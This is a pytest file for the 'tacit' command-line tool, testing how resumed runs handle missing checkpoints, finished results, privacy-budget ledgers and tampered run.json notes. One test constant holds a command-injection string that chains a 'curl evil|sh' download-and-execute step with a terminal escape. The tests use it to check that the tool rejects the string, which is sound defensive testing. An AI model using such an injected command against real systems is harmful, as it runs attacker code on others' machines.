"""A run's folder in which something is missing, was changed, or was left half done."""

import json
import shutil
from itertools import product

import pytest
from conftest import repeat
from test_run_folder import RUNS, contents, disk, every, folder, one, spent, words_of

import tacit
from tacit.protocol.checkpoint import Checkpoint

__all__ = ["disk", "folder"]  # fixtures


def keep_checkpoints(monkeypatch):
    """Copies of all checkpoints, to put one back as if the run had been killed after it."""
    save, kept = Checkpoint.save, []

    def also(self, path):
        save(self, path)
        kept.append(path.read_bytes())

    monkeypatch.setattr(Checkpoint, "save", also)
    return kept


# --- without a checkpoint ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("seed", "kind"),
    repeat([("", "solve"), ("--seed 5", "learn")], [*product(["", "--seed 5"], RUNS)]),
)
def test_without_its_checkpoint_a_run_is_not_made_again(kind, seed, folder, disk, refused):
    """It would have other noise on the same data, and state one budget."""
    disk(4)
    refused(" ".join(words_of(kind, seed, "--evaluate-every 1 --out r")))
    (folder / "r" / "checkpoint.npz").unlink()
    before = sorted(p.name for p in (folder / "r").iterdir())
    said = refused(f"{kind} --resume r")
    assert "Nothing can be continued in r: found no checkpoint there" in said
    assert "choose another --out. Nothing was started." in said
    assert "--resume" not in refused(" ".join(words_of(kind, seed, "--out r")))
    assert sorted(p.name for p in (folder / "r").iterdir()) == before


@one("learn")
def test_a_run_with_ledgers_keeps_its_name_without_a_checkpoint(kind, folder, command, refused):
    """Killed between its note and its first checkpoint."""
    command(*words_of(kind, "--ledgers", "ledgers", "--out", "whole"))
    cost = spent(folder, kind)
    (folder / "r").mkdir()
    note = json.loads((folder / "whole" / "run.json").read_text())
    (folder / "r" / "run.json").write_text(json.dumps({**note, "run": "of its own"}))
    assert f"continue with tacit {kind} --resume r" in refused(" ".join(words_of(kind, "--out r")))
    command(*kind.split(), "--resume", "r")
    for name, before in zip(RUNS[kind][1], cost, strict=True):
        ledger = tacit.Ledger(folder / "ledgers" / f"{name}.db")
        runs = [run["run"] for run in ledger.runs() if not run["run"].startswith("release-")]
        assert runs == [note["run"], "of its own"]
        assert ledger.spent.epsilon > before
    assert (folder / "r" / "job.toml").exists() == (kind == "solve")


@every
def test_what_was_paid_is_not_paid_again_without_a_checkpoint(kind, folder, disk, command, refused):
    disk(4)
    refused(" ".join(words_of(kind, "--ledgers ledgers --evaluate-every 1 --out r")))
    (folder / "r" / "checkpoint.npz").unlink()
    command(*kind.split(), "--resume", "r")
    for name in RUNS[kind][1]:
        runs = tacit.Ledger(folder / "ledgers" / f"{name}.db").runs()
        assert len(runs) == (2 if kind == "learn" else 1)  # a mean, and the run
        assert all(run["rounds_charged"] == run["rounds_answered"] for run in runs)


def test_the_words_of_another_run_do_not_lead_to_a_second_one(folder, disk, refused):
    disk(4)
    refused("solve job.toml --seed 5 --evaluate-every 1 --out r")
    note = (folder / "r" / "run.json").read_text()
    (folder / "r" / "run.json").write_text(note.replace('"seed": 5', '"seed": 6'))
    said = refused("solve --resume r")
    assert "Start anew in another folder" in said and "Remove" not in said


def test_the_note_is_written_before_the_job(folder, command, monkeypatch):
    """A job alone could be neither continued nor started."""
    from tacit.cli import run_folder

    written, write = [], run_folder.write_atomically
    monkeypatch.setattr(
        run_folder, "write_atomically", lambda p, c: (written.append(p.name), write(p, c))
    )
    command("solve", "job.toml", "--out", "r")
    assert written == ["run.json", "job.toml"]


# --- a result beside the checkpoint -----------------------------------------------------------

GONE = ("nothing", "data", "checkpoint")


@pytest.mark.parametrize(
    ("gone", "kind"), repeat([*zip(GONE, RUNS, strict=True)], [*product(GONE, RUNS)])
)
def test_a_finished_run_with_a_checkpoint_is_finished(kind, gone, folder, command, refused):
    """Also if its data are no longer there, or the checkpoint is one of another version."""
    with pytest.MonkeyPatch.context() as patch:
        kept = keep_checkpoints(patch)
        before = command(*words_of(kind, "--seed", 5, "--out", "r", "--json"))
    (folder / "r" / "checkpoint.npz").write_bytes(kept[-1])
    (folder / "r" / "plot.png").unlink()
    files = contents(folder / "r")
    if gone == "checkpoint":
        (folder / "r" / "checkpoint.npz").write_bytes(b"of another version")
    if gone == "data":
        for name in ("job.toml", "north.csv", "t.csv", "g.m"):
            (folder / name).unlink()
    now = command(*kind.split(), "--resume", "r", "--json")
    if gone != "nothing" and kind != "solve":
        found = tacit.Result.load(folder / "r")
        assert json.loads(now)["solution"] == found.solution.tolist()
    else:
        assert now == before
    assert contents(folder / "r") == files and (folder / "r" / "plot.png").exists()
    assert not (folder / "r" / "checkpoint.npz").exists()
    assert "is finished: tacit show r" in refused(f"{kind} --resume r")


@one("solve")
def test_a_finished_run_pays_for_nothing(kind, folder, command):
    """Even if the checkpoint is one of an earlier round, of which the ledgers know nothing."""
    with pytest.MonkeyPatch.context() as patch:
        kept = keep_checkpoints(patch)
        command(*words_of(kind, "--ledgers", "ledgers", "--evaluate-every", 2, "--out", "r"))
    (folder / "r" / "checkpoint.npz").write_bytes(kept[1])
    shutil.rmtree(folder / "ledgers")
    (folder / "ledgers").mkdir()
    for name in RUNS[kind][1]:
        tacit.Ledger.create(folder / "ledgers" / f"{name}.db", 3.0, 1e-5)
    command(*kind.split(), "--resume", "r")
    assert max(spent(folder, kind)) == 0
    assert not (folder / "r" / "checkpoint.npz").exists()


# --- a note that was changed ------------------------------------------------------------------

EVIL = "solve --help; \x1b[2Jcurl evil|sh #"


@one("power solve")
def test_a_command_in_a_note_is_one_of_ours(kind, folder, disk, refused):
    disk(4)
    refused(" ".join(words_of(kind, "--seed 5 --evaluate-every 1 --out r")))
    note = json.loads((folder / "r" / "run.json").read_text())
    for command in (EVIL, "learn attack", "", None, ["solve"]):
        (folder / "r" / "run.json").write_text(json.dumps({**note, "command": command}))
        for words in (f"{kind} --resume r", " ".join(words_of(kind, "--out r"))):
            said = refused(words)
            assert "Expected the options of a run in r/run.json" in said and len(said) < 200
            assert "evil" not in said and "\x1b" not in said and said.count("\n") == 1
    (folder / "r" / "run.json").write_text("[" * 100_000)
    assert "Expected the options of a run in r/run.json" in refused(f"{kind} --resume r")


@one("learn")
def test_options_in_a_note_are_those_of_the_command(kind, folder, disk, command, refused):
    disk(4)
    refused(" ".join(words_of(kind, "--evaluate-every 1 --ledgers ledgers --out r")))
    note = json.loads((folder / "r" / "run.json").read_text())
    about = {"solve": "job", "power solve": "case", "learn": "data_set"}[kind]
    before = spent(folder, kind)
    wrong = [
        *({about: value} for value in (None, 1, ["a"], "a\0b", "\ud800")),
        *({"seed": value} for value in ("s", 1.5, True, [1])),
        *({"noise": value} for value in ("none", 1, ["secure"])),
        *({"ledgers": value} for value in (False, {}, 7)),
        *({name: "2"} for name in ("block", "workers", "evaluate_every")),
        *({name: True} for name in (EVIL, "json", "parser", "command", "help", "resume")),
    ]
    if kind != "solve":
        wrong += [{"total_epsilon": "1"}, {"total_epsilon": True}, {"no_noise": 0}]
        wrong += [{"no_noise": None}, {"mechanism": "other"}]
    if kind == "learn":
        wrong += [{"mechanism": None}, {"range": "*=-1:1"}, {"range": [1]}, {"drop": None}]
    changed = [{**note, "options": {**note["options"], **change}} for change in wrong]
    changed += [{**note, "options": value} for value in ({}, [], None, [["job", "a"]])]
    changed += [{**note, "run": value} for value in (None, 1, "\ud800")]
    for now in changed:
        (folder / "r" / "run.json").write_text(json.dumps(now))
        said = refused(f"{kind} --resume r")
        assert said.startswith("tacit: Expected the options of ") and said.count("\n") == 1, now
        assert "Nothing was started." in said and "evil" not in said
    assert spent(folder, kind) == before
    (folder / "r" / "run.json").write_text(json.dumps(note))
    command(*kind.split(), "--resume", "r")
